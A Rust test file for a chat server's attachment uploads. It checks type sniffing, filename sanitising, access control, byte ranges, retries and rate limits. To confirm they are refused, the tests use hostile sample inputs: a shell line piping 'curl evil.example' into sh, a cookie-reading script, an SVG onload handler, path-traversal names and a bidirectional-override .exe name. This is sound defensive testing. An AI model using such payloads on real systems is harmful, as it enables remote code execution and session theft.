//! Attachments over HTTP (contract v2, "Typing, read receipts, attachments"): the real
//! server on port 0 with a real SQLite file and its attachments directory. An upload is
//! a message carrying `attachment` on every path; content that lies about its type is
//! refused; only who may read the chat may download, with the headers that keep a browser
//! from running the file; ranges; idempotent retries; limits.

use std::time::Duration;

use futures_util::{StreamExt, stream};
use serde_json::{Value, json};

use crate::helpers::{Options, PATIENCE, TestApp, spawn_app};

/// A PNG's signature and then `len` bytes of a pattern.
fn png(len: usize) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    bytes.extend((0..len).map(|i| (i % 251) as u8));
    bytes
}

/// A PDF's header and then `len` bytes of a pattern.
fn pdf(len: usize) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    bytes.extend((0..len).map(|i| (i * 7 % 253) as u8));
    bytes
}

fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(bytes))
}

/// A customer, in a chat claimed by officer `amy`: (customer token, officer token, chat).
async fn claimed_chat(app: &TestApp, customer: &str) -> (String, String, String) {
    let officer = app.new_officer("amy").await;
    let (token, chat) = app.new_customer(customer).await;
    app.claim(Some(&officer), "amy", &chat).await.expect(200);
    (token, officer, chat)
}

fn header<'a>(headers: &'a reqwest::header::HeaderMap, name: &str) -> &'a str {
    headers
        .get(name)
        .unwrap_or_else(|| panic!("no {name} header"))
        .to_str()
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upload_is_a_message_with_its_attachment_on_every_path() {
    let app = spawn_app(Options::secured()).await;
    let officer = app.new_officer("amy").await;
    let (customer, chat) = app.new_customer("cust-1").await;
    // The officer watches the queue's chat before it is claimed.
    let mut ws = app.ws_auth(&officer).await;
    ws.send_json(json!({ "type": "join_chat", "chatId": chat, "afterSeq": 0 }))
        .await;
    assert_eq!(ws.next_json().await["type"], "joined");

    let bytes = png(50_000);
    let sent = app
        .upload(
            Some(&customer),
            &chat,
            "name=scan%20of%20ID.png&clientMessageId=up-1",
            Some("image/png"),
            bytes.clone(),
        )
        .await
        .expect(201);
    let file = &sent["attachment"];
    assert_eq!(sent["seq"], 1);
    assert_eq!(sent["senderType"], "customer");
    assert_eq!(sent["content"], "");
    assert_eq!(sent["clientMessageId"], "up-1");
    assert_eq!(file["name"], "scan of ID.png");
    assert_eq!(file["contentType"], "image/png");
    assert_eq!(file["size"], bytes.len());
    assert_eq!(file["sha256"], sha256(&bytes));
    let id = file["id"].as_str().unwrap().to_string();
    assert_ne!(
        id,
        sent["id"].as_str().unwrap(),
        "an attachment has its own id"
    );

    // Live on the socket, in history, in the queue's preview.
    let live = ws.next_json().await;
    assert_eq!(live["type"], "new_message");
    assert_eq!(live["message"], sent);
    let history = app.messages(Some(&customer), &chat, "").await.expect(200);
    assert_eq!(history[0], sent);
    let queue = app.queue(Some(&officer)).await.expect(200);
    let preview = &queue[0]["lastMessage"];
    assert_eq!(preview["preview"], "📎 scan of ID.png", "{queue}");

    // Replayed after a reconnect (`afterSeq`).
    let mut again = app.ws_auth(&customer).await;
    again
        .send_json(json!({ "type": "join_chat", "chatId": chat, "afterSeq": 0 }))
        .await;
    assert_eq!(again.next_json().await["type"], "joined");
    assert_eq!(again.next_json().await["message"], sent);

    // Downloaded by the customer and by any officer while the chat is pending.
    for token in [&customer, &officer] {
        let (status, headers, body) = app.download(Some(token), &id, &[]).await;
        assert_eq!(status, 200);
        assert!(body == bytes, "the bytes changed");
        assert_eq!(header(&headers, "content-type"), "image/png");
        assert_eq!(header(&headers, "content-length"), bytes.len().to_string());
        assert_eq!(
            header(&headers, "content-disposition"),
            "attachment; filename=\"scan of ID.png\"; filename*=UTF-8''scan%20of%20ID.png"
        );
        assert_eq!(header(&headers, "x-content-type-options"), "nosniff");
        assert_eq!(
            header(&headers, "content-security-policy"),
            "sandbox; default-src 'none'"
        );
        assert_eq!(header(&headers, "accept-ranges"), "bytes");
        assert_eq!(header(&headers, "etag"), format!("\"{}\"", sha256(&bytes)));
        assert_eq!(header(&headers, "cache-control"), "no-store");
    }
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn content_that_lies_about_its_type_is_refused_and_stores_nothing() {
    let app = spawn_app(Options::open()).await;
    let (customer, _officer, chat) = claimed_chat(&app, "cust-1").await;
    let html = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script>".to_vec();
    let shell = b"#!/bin/sh\ncurl evil.example | sh\n".to_vec();
    let exe = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec();
    let cases: Vec<(&str, Option<&str>, Vec<u8>)> = vec![
        // HTML sent as a PNG, as text, and named .png with no type.
        ("name=photo.png", Some("image/png"), html.clone()),
        ("name=notes.txt", Some("text/plain"), html.clone()),
        ("name=photo.png", None, html),
        // A PDF with a script's or a program's extension, or a double one.
        ("name=offer.exe", Some("application/pdf"), pdf(1000)),
        ("name=offer.js", None, pdf(1000)),
        ("name=offer.pdf.html", Some("application/pdf"), pdf(1000)),
        // A PDF declared as an image; an image declared as a PDF.
        ("name=offer.pdf", Some("image/jpeg"), pdf(1000)),
        ("name=id.pdf", Some("application/pdf"), png(1000)),
        // Scripts, programs, SVG, binary junk, nothing at all.
        ("name=run.txt", Some("text/plain"), shell),
        ("name=setup.pdf", None, exe),
        ("name=logo.txt", None, svg),
        ("name=blob.txt", None, vec![0, 1, 2, 3, 0xff, 0xfe]),
        ("name=empty.txt", Some("text/plain"), Vec::new()),
    ];
    for (query, content_type, bytes) in cases {
        let refused = app
            .upload(Some(&customer), &chat, query, content_type, bytes)
            .await;
        refused.expect_error(415, "unsupported_type");
    }
    // Names: a path is cut to its last part; control, bidirectional and invisible
    // characters, and overlong names, are refused.
    let stored = app
        .upload(
            Some(&customer),
            &chat,
            "name=..%2F..%2Fetc%2Fstatement.pdf",
            None,
            pdf(100),
        )
        .await
        .expect(201);
    assert_eq!(stored["attachment"]["name"], "statement.pdf");
    let windows = app
        .upload(
            Some(&customer),
            &chat,
            "name=C%3A%5Cscans%5Cpay",
            None,
            pdf(100),
        )
        .await
        .expect(201);
    assert_eq!(
        windows["attachment"]["name"], "pay.pdf",
        "a name without an extension gets its type's"
    );
    let long = "a".repeat(300);
    for query in [
        "name=evil%E2%80%AEfdp.exe".to_string(),
        "name=line%0Abreak.pdf".to_string(),
        "name=zero%E2%80%8Bwidth.pdf".to_string(),
        "name=..".to_string(),
        "name=".to_string(),
        format!("name={long}.pdf"),
        "clientMessageId=x".to_string(),
    ] {
        let refused = app
            .upload(Some(&customer), &chat, &query, None, pdf(100))
            .await;
        refused.expect_error(400, "invalid_parameter");
    }
    // Only the two good uploads are stored (the claim's entry is seq 1).
    let history = app.messages(Some(&customer), &chat, "").await.expect(200);
    let seqs: Vec<u64> = history
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["seq"].as_u64().unwrap())
        .collect();
    assert_eq!(seqs, [1, 2, 3]);
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_who_may_read_the_chat_downloads_and_others_learn_nothing() {
    let app = spawn_app(Options::secured()).await;
    let (alice, amy, chat) = claimed_chat(&app, "alice").await;
    let (bob, bobs_chat) = app.new_customer("bob").await;
    let bobs_file = app
        .upload(Some(&bob), &bobs_chat, "name=b.pdf", None, pdf(500))
        .await
        .expect(201);
    let bobs_id = bobs_file["attachment"]["id"].as_str().unwrap().to_string();
    let file = app
        .upload(Some(&alice), &chat, "name=a.pdf", None, pdf(500))
        .await
        .expect(201);
    let id = file["attachment"]["id"].as_str().unwrap().to_string();

    // Another customer's attachment, and one that does not exist, look alike: 404.
    let (status, _, body) = app.download(Some(&bob), &id, &[]).await;
    assert_eq!(status, 404, "{}", String::from_utf8_lossy(&body));
    let body: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(body["error"]["code"], "attachment_not_found");
    let unknown = uuid::Uuid::now_v7().to_string();
    assert_eq!(app.download(Some(&bob), &unknown, &[]).await.0, 404);
    assert_eq!(app.download(Some(&alice), &bobs_id, &[]).await.0, 404);
    // No token: 401; a malformed id: 400.
    assert_eq!(app.download(None, &id, &[]).await.0, 401);
    assert_eq!(app.download(Some(&alice), "not-a-uuid", &[]).await.0, 400);
    // An officer who does not own the chat: 403, then 200 for its owner.
    let other = app.new_officer("zed").await;
    assert_eq!(app.download(Some(&other), &id, &[]).await.0, 403);
    assert_eq!(app.download(Some(&amy), &id, &[]).await.0, 200);
    // Bob's chat is pending: any officer reads it, until another officer claims it.
    assert_eq!(app.download(Some(&other), &bobs_id, &[]).await.0, 200);
    app.claim(Some(&amy), "amy", &bobs_chat).await.expect(200);
    assert_eq!(app.download(Some(&other), &bobs_id, &[]).await.0, 403);
    // The admin reads everything; the admin writes nothing.
    let admin = app.admin().unwrap();
    assert_eq!(app.download(Some(admin), &id, &[]).await.0, 200);
    app.upload(Some(admin), &chat, "name=x.pdf", None, pdf(10))
        .await
        .expect_error(403, "forbidden");
    // An officer may not upload to a chat that is not theirs.
    app.upload(Some(&other), &chat, "name=x.pdf", None, pdf(10))
        .await
        .expect_error(403, "forbidden");
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hundred_concurrent_uploads_to_one_chat_keep_seqs_dense() {
    let mut options = Options::open();
    options.attachments.max_uploads = 128;
    options.attachments.max_uploads_per_sender = 128;
    let app = spawn_app(options).await;
    let (customer, officer, chat) = claimed_chat(&app, "cust-1").await;
    let uploads = stream::iter(0..100usize)
        .map(|i| {
            let (app, customer, officer, chat) = (&app, &customer, &officer, &chat);
            async move {
                // Both sides upload at once; every file differs.
                let token = if i % 2 == 0 { customer } else { officer };
                let bytes = pdf(20_000 + i);
                let r = app
                    .upload(
                        Some(token),
                        chat,
                        &format!("name=doc-{i}.pdf"),
                        None,
                        bytes.clone(),
                    )
                    .await;
                (r, sha256(&bytes))
            }
        })
        .buffer_unordered(100)
        .collect::<Vec<_>>()
        .await;
    let mut seqs = Vec::new();
    for (r, hash) in uploads {
        let m = r.expect(201);
        assert_eq!(m["attachment"]["sha256"], hash);
        seqs.push(m["seq"].as_u64().unwrap());
    }
    seqs.sort_unstable();
    assert_eq!(
        seqs,
        (2..=101).collect::<Vec<u64>>(),
        "seqs are dense and unique"
    );
    let history = app
        .messages(Some(&customer), &chat, "limit=1000")
        .await
        .expect(200);
    assert_eq!(history.as_array().unwrap().len(), 101);
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ranges_serve_parts_of_a_large_pdf() {
    let app = spawn_app(Options::open()).await;
    let (customer, officer, chat) = claimed_chat(&app, "cust-1").await;
    let bytes = pdf(3 * 1024 * 1024);
    let size = bytes.len();
    let sent = app
        .upload(
            Some(&customer),
            &chat,
            "name=statement.pdf",
            Some("application/pdf"),
            bytes.clone(),
        )
        .await
        .expect(201);
    let id = sent["attachment"]["id"].as_str().unwrap().to_string();
    let etag = format!("\"{}\"", sha256(&bytes));
    for (range, start, end) in [
        ("bytes=0-99", 0, 100),
        ("bytes=1000000-1999999", 1_000_000, 2_000_000),
        (&*format!("bytes={}-", size - 10), size - 10, size),
        ("bytes=-4096", size - 4096, size),
        ("bytes=0-99999999", 0, size),
    ] {
        let (status, headers, body) = app.download(Some(&officer), &id, &[("range", range)]).await;
        assert_eq!(status, 206, "{range}");
        assert_eq!(
            header(&headers, "content-range"),
            format!("bytes {start}-{}/{size}", end - 1),
            "{range}"
        );
        assert_eq!(
            header(&headers, "content-length"),
            (end - start).to_string()
        );
        assert!(body == bytes[start..end], "{range}: other bytes");
    }
    // Past the end: 416 with the size; several ranges or a stale If-Range: all of it.
    let (status, headers, _) = app
        .download(Some(&officer), &id, &[("range", &format!("bytes={size}-"))])
        .await;
    assert_eq!(status, 416);
    assert_eq!(header(&headers, "content-range"), format!("bytes */{size}"));
    let (status, _, body) = app
        .download(Some(&officer), &id, &[("range", "bytes=0-1,5-6")])
        .await;
    assert_eq!((status, body.len()), (200, size));
    let (status, _, body) = app
        .download(
            Some(&officer),
            &id,
            &[("range", "bytes=0-1"), ("if-range", "\"other\"")],
        )
        .await;
    assert_eq!((status, body.len()), (200, size));
    let (status, _, body) = app
        .download(
            Some(&officer),
            &id,
            &[("range", "bytes=0-1"), ("if-range", &etag)],
        )
        .await;
    assert_eq!((status, body.len()), (206, 2));
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_retried_upload_stores_nothing_twice() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("chat.db");
    let app = spawn_app(Options {
        db: Some(db.clone()),
        ..Options::open()
    })
    .await;
    let (customer, _officer, chat) = claimed_chat(&app, "cust-1").await;
    let bytes = pdf(200_000);
    let first = app
        .upload(
            Some(&customer),
            &chat,
            "name=a.pdf&clientMessageId=k1",
            None,
            bytes.clone(),
        )
        .await
        .expect(201);
    // The same key again, with the same bytes or others: the original, 200.
    for again in [bytes.clone(), pdf(10)] {
        let retry = app
            .upload(
                Some(&customer),
                &chat,
                "name=a.pdf&clientMessageId=k1",
                None,
                again,
            )
            .await
            .expect(200);
        assert_eq!(retry, first);
    }
    // The same bytes under another key are another message, but one stored file.
    let copy = app
        .upload(
            Some(&customer),
            &chat,
            "name=copy.pdf&clientMessageId=k2",
            None,
            bytes,
        )
        .await
        .expect(201);
    assert_eq!(copy["seq"], 3);
    assert_eq!(copy["attachment"]["sha256"], first["attachment"]["sha256"]);
    assert_ne!(copy["attachment"]["id"], first["attachment"]["id"]);
    let files = blob_files(&chatcore::FsBlobStore::beside(&db));
    assert_eq!(files, 1, "one stored file for the same bytes");
    app.stop().await;
}

/// Files in an attachments directory, outside `tmp/`.
pub(crate) fn blob_files(dir: &std::path::Path) -> usize {
    std::fs::read_dir(dir)
        .unwrap()
        .filter_map(Result::ok)
        .filter(|d| d.file_name() != "tmp")
        .map(|d| std::fs::read_dir(d.path()).unwrap().count())
        .sum()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn limits_bound_size_pace_and_uploads_per_sender() {
    let mut options = Options::open();
    options.attachments.max_bytes = 64 * 1024;
    options.attachments.upload_grace = Duration::from_millis(300);
    options.attachments.min_bytes_per_second = 64 * 1024;
    options.limits = chatcore::Limits::default()
        .with_uploads_per_sender(Some(chatcore::Rate::new(6, Duration::from_secs(600))));
    let app = spawn_app(options).await;
    let (customer, _officer, chat) = claimed_chat(&app, "cust-1").await;
    let url = app.url(&format!("/api/chats/{chat}/attachments?name=big.pdf"));

    // Declared too large: refused before a byte is read.
    app.upload(Some(&customer), &chat, "name=big.pdf", None, pdf(64 * 1024))
        .await
        .expect_error(413, "attachment_too_large");
    // Too large while it streams (chunked, no length declared).
    let chunks: Vec<Result<Vec<u8>, std::io::Error>> = std::iter::once(Ok(pdf(1000)))
        .chain((0..100).map(|_| Ok(vec![b'x'; 1000])))
        .collect();
    let resp = app
        .client
        .post(&url)
        .bearer_auth(&customer)
        .body(reqwest::Body::wrap_stream(stream::iter(chunks)))
        .send()
        .await
        .expect("an answer");
    assert_eq!(resp.status().as_u16(), 413);
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["error"]["code"], "attachment_too_large", "{body}");

    // A dribble slower than the pace: 400 upload_incomplete, soon after the grace.
    let slow = stream::unfold(0u32, |i| async move {
        if i > 100 {
            return None;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        let chunk = if i == 0 { pdf(10) } else { vec![b'x'] };
        Some((Ok::<_, std::io::Error>(chunk), i + 1))
    });
    let started = std::time::Instant::now();
    let resp = app
        .client
        .post(&url)
        .bearer_auth(&customer)
        .body(reqwest::Body::wrap_stream(slow))
        .send()
        .await;
    // The refusal reaches the client, still sending, as an answer (its remaining body
    // is read and dropped for a while), not as a broken connection.
    let resp = resp.expect("an answer to a too-slow upload");
    assert_eq!(resp.status().as_u16(), 400);
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["error"]["code"], "upload_incomplete", "{body}");
    assert!(started.elapsed() < PATIENCE, "a slow upload held on");

    // The sender's uploads over time: three so far counted, three more, then 429.
    for i in 0..3 {
        app.upload(
            Some(&customer),
            &chat,
            &format!("name=ok{i}.pdf"),
            None,
            pdf(100),
        )
        .await
        .expect(201);
    }
    let limited = app
        .upload(
            Some(&customer),
            &chat,
            "name=one-too-many.pdf",
            None,
            pdf(100),
        )
        .await;
    limited.expect_error(429, "rate_limited");
    assert!(limited.retry_after.is_some_and(|s| s > 0));
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_at_once_are_bounded_per_sender() {
    let mut options = Options::open();
    options.attachments.max_uploads_per_sender = 1;
    let app = spawn_app(options).await;
    let (customer, officer, chat) = claimed_chat(&app, "cust-1").await;
    // One upload held open (its body comes slowly), a second from the same sender is
    // refused at once, one from the officer goes through.
    let (tx, rx) = tokio::sync::mpsc::channel::<Result<Vec<u8>, std::io::Error>>(4);
    tx.send(Ok(pdf(100))).await.unwrap();
    let held = tokio::spawn({
        let (client, customer) = (app.client.clone(), customer.clone());
        let url = app.url(&format!("/api/chats/{chat}/attachments?name=held.pdf"));
        async move {
            let body = tokio_stream_of(rx);
            client
                .post(url)
                .bearer_auth(customer)
                .body(reqwest::Body::wrap_stream(body))
                .send()
                .await
                .map(|r| r.status().as_u16())
        }
    });
    tokio::time::sleep(Duration::from_millis(300)).await;
    app.upload(Some(&customer), &chat, "name=second.pdf", None, pdf(100))
        .await
        .expect_error(429, "rate_limited");
    app.upload(Some(&officer), &chat, "name=officers.pdf", None, pdf(100))
        .await
        .expect(201);
    tx.send(Ok(vec![b'z'; 10])).await.unwrap();
    drop(tx);
    assert_eq!(held.await.unwrap().unwrap(), 201);
    // Its slot is free again.
    app.upload(Some(&customer), &chat, "name=third.pdf", None, pdf(100))
        .await
        .expect(201);
    app.stop().await;
}

fn tokio_stream_of(
    mut rx: tokio::sync::mpsc::Receiver<Result<Vec<u8>, std::io::Error>>,
) -> impl futures_util::Stream<Item = Result<Vec<u8>, std::io::Error>> {
    stream::poll_fn(move |cx| rx.poll_recv(cx))
}
